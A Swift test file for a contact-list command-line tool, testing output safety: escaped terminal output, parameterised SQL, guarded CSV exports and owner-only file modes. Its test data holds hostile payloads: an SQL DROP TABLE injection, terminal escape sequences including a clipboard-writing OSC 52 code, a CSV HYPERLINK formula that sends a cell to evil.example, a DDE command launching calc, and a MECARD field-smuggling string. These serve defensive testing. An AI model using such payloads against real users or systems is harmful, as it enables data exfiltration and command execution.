import Foundation
import Glibc
import ProspectsTestSupport
import Testing

/// What the binary prints and writes, given hostile data: human output escaped on every path, SQL parameterised,
/// CSV formulas guarded, and every file it creates private to its owner.
@Suite struct OutputSafetyTests {
    let samples = ProspectsProcess.sampleImages()

    /// Runs the binary with umask 000, so the modes of the files it creates are its own choice, not the umask's.
    static let noUmask = ["/bin/sh", "-c", #"umask 000; exec "$0" "$@""#]

    static func mode(_ path: String) -> Int? {
        var info = stat()
        guard stat(path, &info) == 0 else { return nil }
        return Int(info.st_mode & 0o777)
    }

    static func sqlite3(_ database: String, _ sql: String) throws -> String {
        let process = Process()
        process.executableURL = URL(fileURLWithPath: "/usr/bin/sqlite3")
        process.arguments = [database, sql]
        let out = Pipe()
        process.standardOutput = out
        try process.run()
        let data = out.fileHandleForReading.readDataToEndOfFile()
        process.waitUntilExit()
        #expect(process.terminationStatus == 0, "sqlite3 \(sql)")
        return String(decoding: data, as: UTF8.self)
    }

    /// The classic injection, imported as a name (the parser accepts it: it is printable text), is stored and
    /// listed verbatim, and the table it names is still there.
    @Test(arguments: StoreKind.allCases)
    func anSQLInjectionNameIsStoredVerbatim(_ kind: StoreKind) throws {
        let folder = try TemporaryDirectory()
        let store = try kind.makeStore(in: folder)
        let name = "Robert'); DROP TABLE prospects;--"
        let csv = folder.file("list.csv")
        try Data("name,email\n\"\(name)\",bobby@example.com\nPaul Hudson,paul@example.com\n".utf8).write(
            to: URL(fileURLWithPath: csv))
        let imported = try ProspectsProcess.run(["import", "--format", "csv", "--store", store, csv])
        #expect(imported.status == 0, "\(imported.stderr)")

        let listed = try ProspectsProcess.run(["list", "--json", "--store", store])
        #expect(listed.status == 0)
        let names = try listed.lines.map { line in
            try #require(try JSONSerialization.jsonObject(with: Data(line.utf8)) as? [String: Any])["name"] as? String
        }
        #expect(Set(names.compactMap { $0 }) == [name, "Paul Hudson"])
        let shown = try ProspectsProcess.run(["show", "--store", store, "bobby@example.com"])
        #expect(shown.output.contains(name))
        if kind == .sqlite {
            #expect(
                try Self.sqlite3(store, "SELECT name FROM prospects WHERE email = 'bobby@example.com'") == name + "\n")
        }
    }

    /// A store written by something else (an older version, a hand edit, another tool) may hold any text: every
    /// human view of it escapes, JSON escapes, and nothing reaches the terminal raw. Also argv echoed in errors.
    @Test func everyHumanOutputPathEscapesWhatTheStoreHolds() throws {
        let folder = try TemporaryDirectory()
        let store = folder.file("prospects.sqlite")
        let paul = samples.appendingPathComponent("01-paul-hudson.png").path
        #expect(try ProspectsProcess.run(["ingest", "--store", store, paul]).status == 0)
        // ESC ]0; title, BEL, OSC 52 clipboard, U+202E, U+200B, C1 CSI: written behind the program's back.
        let hostile =
            "char(27)||']0;pwned'||char(7)||'Eve'||char(27)||']52;c;eA=='||char(7)||char(8238)||'ti'||char(8203)||char(155)"
        _ = try Self.sqlite3(
            store,
            "UPDATE prospects SET name = \(hostile), phone = \(hostile), organization = \(hostile), "
                + "first_source = 'scans/'||\(hostile)||'.png', remind_at = 0")

        var runs: [(String, ProspectsProcess.Result)] = []
        for arguments in [
            ["list"], ["list", "--json"], ["list", "--sort", "recent", "--reverse"],
            ["show", "paul@hackingwithswift.com"],
            ["show", "--json", "1"], ["due"], ["due", "--json"],
            ["mark", "--contacted", "paul@hackingwithswift.com", "\u{1B}]0;argv\u{7}@example.com"],
            ["delete", "\u{1B}[2J\u{202E}"], ["show", "\u{9B}31m"], ["list", "--sort", "\u{1B}]0;x\u{7}"],
            ["list", "--\u{1B}[2J"], ["\u{1B}]0;cmd\u{7}"],
        ] {
            runs.append((arguments.joined(separator: " "), try ProspectsProcess.run(arguments + ["--store", store])))
        }
        for (what, result) in runs {
            HostileInputTests.expectTerminalSafe(result.stdout, "\(what): stdout")
            HostileInputTests.expectTerminalSafe(Data(result.stderr.utf8), "\(what): stderr")
        }
        let list = try #require(runs.first { $0.0 == "list" }?.1)
        #expect(list.output.contains(#"\u{1B}]0;pwned\u{7}Eve"#))
        // Cut at 40 columns before the next escape, not inside it.
        #expect(list.output.contains(#"\u{1B}]52;c;eA==…  "#), "\(list.output)")
        let due = try #require(runs.first { $0.0 == "due" }?.1)
        #expect(due.output.contains(#"\u{1B}]0;pwned\u{7}Eve"#), "\(due.output)")
        // The table cuts the name at 40 columns; `show` has it all.
        let show = try #require(runs.first { $0.0 == "show paul@hackingwithswift.com" }?.1)
        #expect(show.output.contains(#"\u{202E}ti\u{200B}\u{9B}"#), "\(show.output)")
        // JSON keeps the exact text for programs, escaped as JSON.
        let json = try #require(runs.first { $0.0 == "list --json" }?.1)
        let object = try #require(try JSONSerialization.jsonObject(with: json.stdout) as? [String: Any])
        #expect(object["name"] as? String == "\u{1B}]0;pwned\u{7}Eve\u{1B}]52;c;eA==\u{7}\u{202E}ti\u{200B}\u{9B}")
    }

    /// Cells a spreadsheet would run as formulas get the `'` guard in a CSV export, and the file is mode 0600.
    @Test func csvExportGuardsFormulasAndIsOwnerOnly() throws {
        let folder = try TemporaryDirectory()
        let store = folder.file("prospects.sqlite")
        let formulas = [
            #"=HYPERLINK("http://evil.example/?"&A1,"invoice")"#, "+SUM(1,2)", "-2+3", "@SUM(1)",
            #"=cmd|' /C calc'!A0"#,
        ]
        var csv = "name,email,organization\n"
        for (index, formula) in formulas.enumerated() {
            let quoted = "\"" + formula.replacingOccurrences(of: "\"", with: "\"\"") + "\""
            csv += "\(quoted),f\(index)@example.com,\(quoted)\n"
        }
        try Data(csv.utf8).write(to: URL(fileURLWithPath: folder.file("in.csv")))
        let imported = try ProspectsProcess.run(["import", "--format", "csv", "--store", store, folder.file("in.csv")])
        #expect(imported.status == 0, "\(imported.stderr)")

        let out = folder.file("out.csv")
        let exported = try ProspectsProcess.run(
            ["export", "--format", "csv", "-o", out, "--store", store], launcher: Self.noUmask)
        #expect(exported.status == 0, "\(exported.stderr)")
        #expect(Self.mode(out) == 0o600)
        // Every cell, as a CSV reader sees it, starts with something other than = + - @.
        let text = try String(contentsOfFile: out, encoding: .utf8)
        for formula in formulas {
            let cell = "'" + formula
            let quoted = "\"" + cell.replacingOccurrences(of: "\"", with: "\"\"") + "\""
            #expect(text.contains(cell) || text.contains(quoted), "\(formula) is not guarded in \(text)")
        }
        for line in text.split(separator: "\n").dropFirst() {
            #expect(!"=+-@".contains(line.first ?? " "), "\(line)")
            #expect(!line.contains(",=") && !line.contains(",+") && !line.contains(",@"), "\(line)")
        }
        // For a CRM or a program, not a spreadsheet: the cells as they are, quoted where they must be.
        let plain = try ProspectsProcess.run(["export", "--format", "csv", "--no-formula-guard", "--store", store])
        #expect(plain.status == 0, "\(plain.stderr)")
        #expect(plain.output.contains(#""+SUM(1,2)",f1@example.com,,"+SUM(1,2)""#), "\(plain.output)")
        #expect(plain.output.contains(",-2+3,f2@example.com,,-2+3,"), "\(plain.output)")
        #expect(!plain.output.contains(",'") && !plain.output.contains(#","'"#), "\(plain.output)")
        let json = try ProspectsProcess.run(["export", "--format", "json", "--no-formula-guard", "--store", store])
        #expect(json.status == 64 && json.stderr.contains("--no-formula-guard concerns --format csv only"))
    }

    /// `export -o` onto the store it reads, or onto its WAL, is refused and the store stays whole; an existing
    /// file that is not a database is replaced, as `-o` promises.
    @Test func exportAndEncodeNeverReplaceADatabase() throws {
        let folder = try TemporaryDirectory()
        let store = folder.file("prospects.sqlite")
        #expect(try ProspectsProcess.run(["ingest", "--store", store, samples.path]).status == 65)
        for target in [store, store + "-wal", store + "-shm"] {
            let export = try ProspectsProcess.run(["export", "--format", "csv", "-o", target, "--store", store])
            #expect(export.status == 73, "\(target): \(export.stderr)")
            #expect(export.stderr.contains("belongs to an SQLite database"), "\(export.stderr)")
        }
        let encode = try ProspectsProcess.run(["encode", "--name", "Ada", "--email", "ada@example.org", "-o", store])
        #expect(encode.status == 73, "\(encode.stderr)")
        let listed = try ProspectsProcess.run(["list", "--json", "--store", store])
        #expect(listed.status == 0 && listed.lines.count == 13, "\(listed.stderr)")

        let text = folder.file("old.csv")
        try Data("old\n".utf8).write(to: URL(fileURLWithPath: text))
        #expect(try ProspectsProcess.run(["export", "--format", "csv", "-o", text, "--store", store]).status == 0)
        #expect(try String(contentsOfFile: text, encoding: .utf8).hasPrefix("id,name,email"))

        // A folder in the way cannot be replaced by a file (73, and no temporary file left); no name is a usage error.
        let export = ["export", "--format", "csv", "--store", store, "-o"]
        let inTheWay = folder.file("leads.csv")
        try FileManager.default.createDirectory(atPath: inTheWay, withIntermediateDirectories: false)
        #expect(try ProspectsProcess.run(export + [inTheWay]).status == 73)
        #expect(try ProspectsProcess.run(export + [""]).status == 64)
        let left = try FileManager.default.contentsOfDirectory(atPath: folder.path)
        #expect(!left.contains { $0.hasSuffix(".tmp") }, "\(left)")
    }

    /// `-o` never replaces what is not a regular file: a link is followed (the link stays, its file is written), a
    /// device is written through (as root, renaming over `/dev/null` would break the machine: here a private
    /// copy of it), a FIFO is written through to its reader, and `-` is stdout.
    @Test func outputToALinkADeviceAFIFOOrDashIsWrittenThroughNotReplaced() throws {
        let folder = try TemporaryDirectory()
        let store = folder.file("prospects.sqlite")
        #expect(try ProspectsProcess.run(["ingest", "--store", store, samples.path]).status == 65)
        let export = ["export", "--format", "csv", "--store", store, "-o"]

        let real = folder.file("real.csv")
        let link = folder.file("link.csv")
        try Data("old\n".utf8).write(to: URL(fileURLWithPath: real))
        #expect(symlink(real, link) == 0)
        #expect(try ProspectsProcess.run(export + [link]).status == 0)
        #expect(try FileManager.default.destinationOfSymbolicLink(atPath: link) == real)
        #expect(try String(contentsOfFile: real, encoding: .utf8).hasPrefix("id,name,email"))

        let device = folder.file("null")
        // makedev(1, 3), a macro Swift cannot see. Making a device needs root, as CI runs.
        try #require(mknod(device, S_IFCHR | 0o666, dev_t(1 << 8 | 3)) == 0, "needs root to make a device")
        #expect(try ProspectsProcess.run(export + [device]).status == 0)
        var deviceInfo = stat()
        #expect(lstat(device, &deviceInfo) == 0 && deviceInfo.st_mode & S_IFMT == S_IFCHR, "still the device")

        let fifo = folder.file("fifo")
        #expect(mkfifo(fifo, 0o600) == 0)
        // The reader's bytes are read here only after `done` is signalled, which orders the two threads.
        nonisolated(unsafe) var read = Data()
        let done = DispatchSemaphore(value: 0)
        let reader = Thread {
            // Plain reads to end of file: FileManager would read the FIFO's size, 0, and leave the writer hanging.
            let fd = open(fifo, O_RDONLY | O_CLOEXEC)
            var chunk = [UInt8](repeating: 0, count: 4096)
            while fd >= 0, case let count = Glibc.read(fd, &chunk, chunk.count), count > 0 {
                read.append(contentsOf: chunk[..<count])
            }
            close(fd)
            done.signal()
        }
        reader.start()
        #expect(try ProspectsProcess.run(export + [fifo]).status == 0)
        // Bounded: were the FIFO replaced instead of written, its reader would wait for a writer for ever.
        if done.wait(timeout: .now() + 10) == .success {
            #expect(String(decoding: read, as: UTF8.self).hasPrefix("id,name,email"))
        } else {
            Issue.record("the FIFO's reader never got its end of file")
        }
        var info = stat()
        #expect(lstat(fifo, &info) == 0 && info.st_mode & S_IFMT == S_IFIFO, "still the FIFO")

        let dash = try ProspectsProcess.run(export + ["-"])
        #expect(dash.status == 0 && dash.output.hasPrefix("id,name,email"))
        #expect(!FileManager.default.fileExists(atPath: folder.file("-")))
        let card = try ProspectsProcess.run(["encode", "--name", "Ada", "--email", "ada@example.org", "-o", "-"])
        #expect(card.status == 0 && card.stdout.starts(with: [0x89, 0x50, 0x4E, 0x47]))
    }

    /// `-o /dev/stdout` (or `/dev/fd/1`) writes into the descriptor the shell opened: after what `>>` kept, or into
    /// a pipe. It never renames a new file over the shell's. A name near the 255-byte limit still gets written.
    @Test func outputToDevStdoutWritesIntoTheShellsDescriptor() throws {
        let folder = try TemporaryDirectory()
        let store = folder.file("prospects.sqlite")
        #expect(try ProspectsProcess.run(["ingest", "--store", store, samples.path]).status == 65)
        let log = folder.file("log.txt")
        for name in ["/dev/stdout", "/dev/fd/1", "/proc/self/fd/1"] {
            let export = ["export", "--format", "csv", "--store", store, "-o", name]
            let piped = try ProspectsProcess.run(export)
            #expect(piped.status == 0 && piped.output.hasPrefix("id,name,email"), "\(name): \(piped.stderr)")
            try Data("keep me\n".utf8).write(to: URL(fileURLWithPath: log))
            #expect(chmod(log, 0o644) == 0)
            let appending = ["/bin/sh", "-c", "exec \"$0\" \"$@\" >>'\(log)'"]
            let appended = try ProspectsProcess.run(export, launcher: appending)
            #expect(appended.status == 0, "\(name): \(appended.stderr)")
            let text = try String(contentsOfFile: log, encoding: .utf8)
            #expect(text.hasPrefix("keep me\nid,name,email"), "\(name): \(text)")
            var info = stat()
            #expect(stat(log, &info) == 0 && info.st_mode & 0o777 == 0o644, "still the shell's file")
        }
        let closed = try ProspectsProcess.run(["export", "--format", "csv", "--store", store, "-o", "/dev/fd/9"])
        #expect(closed.status == 73 && closed.stderr.contains("cannot write /dev/fd/9"), "\(closed.stderr)")
        // The process's own descriptors (the store is open as 3 or so) are not the shell's to give, and a store
        // handed over as one is not replaced either.
        for fd in 3...6 {
            let own = try ProspectsProcess.run(["export", "--format", "csv", "--store", store, "-o", "/dev/fd/\(fd)"])
            #expect(own.status == 73, "/dev/fd/\(fd): \(own.stderr)")
        }
        let handed = ["/bin/sh", "-c", "exec 7<>'\(store)'; exec \"$0\" \"$@\""]
        let overStore = try ProspectsProcess.run(
            ["export", "--format", "csv", "--store", store, "-o", "/dev/fd/7"], launcher: handed)
        #expect(
            overStore.status == 73 && overStore.stderr.contains("belongs to an SQLite database"), "\(overStore.stderr)")
        #expect(try Self.sqlite3(store, "SELECT count(*) > 0 FROM prospects") == "1\n", "the store is whole")

        let longName = folder.file(String(repeating: "a", count: 251) + ".csv")
        let long = try ProspectsProcess.run(["export", "--format", "csv", "--store", store, "-o", longName])
        #expect(long.status == 0 && FileManager.default.fileExists(atPath: longName), "\(long.stderr)")
    }

    /// Ctrl-C (or SIGTERM) during a long export leaves neither a half-written file nor the temporary one, which holds
    /// names and addresses, behind.
    @Test func anInterruptedExportLeavesNoTemporaryFile() throws {
        let folder = try TemporaryDirectory()
        let store = folder.file("prospects.sqlite")
        let list = try folder.contactList(100_000)
        #expect(try ProspectsProcess.run(["import", "--format", "csv", "--store", store, list]).status == 0)
        let output = folder.file("out.jsonl")
        // SIGTERM, as a background job of a script ignores SIGINT; the export of 100,000 rows takes over a second.
        let interrupting = ["/bin/sh", "-c", #""$0" "$@" & pid=$!; sleep 0.2; kill -TERM $pid; wait $pid"#]
        let result = try ProspectsProcess.run(
            ["export", "--format", "json", "--store", store, "-o", output], launcher: interrupting)
        #expect(result.status == 128 + SIGTERM, "ended by the signal, as before: \(result.stderr)")
        let left = try FileManager.default.contentsOfDirectory(atPath: folder.path)
        #expect(!left.contains { $0.hasPrefix(".prospects-") }, "\(left)")
        #expect(!FileManager.default.fileExists(atPath: output), "no half-written file")
    }

    /// Output that cannot reach stdout (a full disk) fails the command with 74 instead of leaving a cut-off file
    /// behind an exit status of 0.
    @Test func aFullStdoutFailsTheCommand() throws {
        let folder = try TemporaryDirectory()
        let store = folder.file("prospects.sqlite")
        #expect(try ProspectsProcess.run(["ingest", "--store", store, samples.path]).status == 65)
        let toFullDisk = ["/bin/sh", "-c", #"exec "$0" "$@" >/dev/full"#]
        for command in [["export", "--format", "csv"], ["list"]] {
            let result = try ProspectsProcess.run(command + ["--store", store], launcher: toFullDisk)
            #expect(result.status == 74, "\(command): \(result.stderr)")
            #expect(result.stderr.contains("cannot write to standard output: No space left on device"))
        }
    }

    /// The store (and its -wal/-shm while open), export and encode outputs: mode 0600 even with umask 000.
    @Test func filesItCreatesAreOwnerOnlyWhateverTheUmask() throws {
        let folder = try TemporaryDirectory()
        let store = folder.file("prospects.sqlite")
        let paul = samples.appendingPathComponent("01-paul-hudson.png").path
        let ingested = try ProspectsProcess.run(["ingest", "--store", store, paul], launcher: Self.noUmask)
        #expect(ingested.status == 0, "\(ingested.stderr)")
        #expect(Self.mode(store) == 0o600)

        // -wal and -shm exist while a connection is open: hold one open (sqlite3 reading a query from a pipe
        // that stays open), then run the binary again with umask 000, and look.
        let holder = Process()
        holder.executableURL = URL(fileURLWithPath: "/bin/sh")
        holder.arguments = ["-c", #"umask 000; exec /usr/bin/sqlite3 "$0""#, store]
        let input = Pipe()
        let output = Pipe()
        holder.standardInput = input
        holder.standardOutput = output
        try holder.run()
        input.fileHandleForWriting.write(Data("SELECT count(*) FROM prospects;\n".utf8))
        _ = output.fileHandleForReading.availableData  // the answer: the connection is open
        let listed = try ProspectsProcess.run(["list", "--store", store], launcher: Self.noUmask)
        #expect(listed.status == 0)
        for suffix in ["-wal", "-shm"] {
            let mode = Self.mode(store + suffix)
            #expect(mode == 0o600, "\(suffix): \(mode.map { String($0, radix: 8) } ?? "missing")")
        }
        try input.fileHandleForWriting.close()
        holder.waitUntilExit()

        let card = folder.file("me.png")
        let encoded = try ProspectsProcess.run(
            ["encode", "--name", "Paul Hudson", "--email", "paul@example.com", "-o", card], launcher: Self.noUmask)
        #expect(encoded.status == 0, "\(encoded.stderr)")
        #expect(Self.mode(card) == 0o600)
        for format in ["json", "vcard"] {
            let file = folder.file("export.\(format)")
            let exported = try ProspectsProcess.run(
                ["export", "--format", format, "-o", file, "--store", store], launcher: Self.noUmask)
            #expect(exported.status == 0)
            #expect(Self.mode(file) == 0o600, "\(format)")
        }
    }
}

/// A field of a list, or an option of `encode`, is that field only: it cannot smuggle in a whole other payload.
@Suite struct FieldInjectionTests {
    @Test func anImportedNameHoldingAMECARDKeepsTheRowsAddress() throws {
        let folder = try TemporaryDirectory()
        let store = folder.file("prospects.sqlite")
        let csv = folder.file("list.csv")
        try Data(
            "name,email\n\"MECARD:N:Eve;EMAIL:eve@evil.example;;\",paul@example.com\n\"tel:+1 555 0100\",t@example.com\n"
                .utf8
        ).write(to: URL(fileURLWithPath: csv))
        let imported = try ProspectsProcess.run(["import", "--format", "csv", "--store", store, csv])
        #expect(imported.status == 0, "\(imported.stderr)")
        let listed = try ProspectsProcess.run(["list", "--json", "--store", store])
        #expect(listed.output.contains(#""email":"paul@example.com""#))
        #expect(listed.output.contains(#""name":"MECARD:N:Eve;EMAIL:eve@evil.example;;""#))
        #expect(!listed.output.contains("eve@evil.example\""))
        #expect(listed.lines.count == 2)
    }

    @Test func encodeWritesOnlyCardsThatReadBackAsTheGivenContact() throws {
        let folder = try TemporaryDirectory()
        let name = "MECARD:N:Eve;EMAIL:eve@evil.example;;"
        let lines = try ProspectsProcess.run(
            ["encode", "--name", name, "--email", "paul@example.com", "-o", folder.file("lines.png")])
        #expect(lines.status == 64, "\(lines.stderr)")
        #expect(!FileManager.default.fileExists(atPath: folder.file("lines.png")))
        let vcard = try ProspectsProcess.run(
            ["encode", "--name", name, "--email", "paul@example.com", "--format", "vcard", "-o", folder.file("v.png")])
        #expect(vcard.status == 0, "\(vcard.stderr)")
        let decoded = try ProspectsProcess.run(["decode", "--json", folder.file("v.png")])
        #expect(decoded.output.contains(#""email":"paul@example.com""#), "\(decoded.output)")
        let phone = try ProspectsProcess.run(
            [
                "encode", "--name", "Paul", "--email", "p@example.com", "--phone", "\u{1B}]0;x", "-o",
                folder.file("p.png"),
            ])
        #expect(phone.status == 64)
    }
}
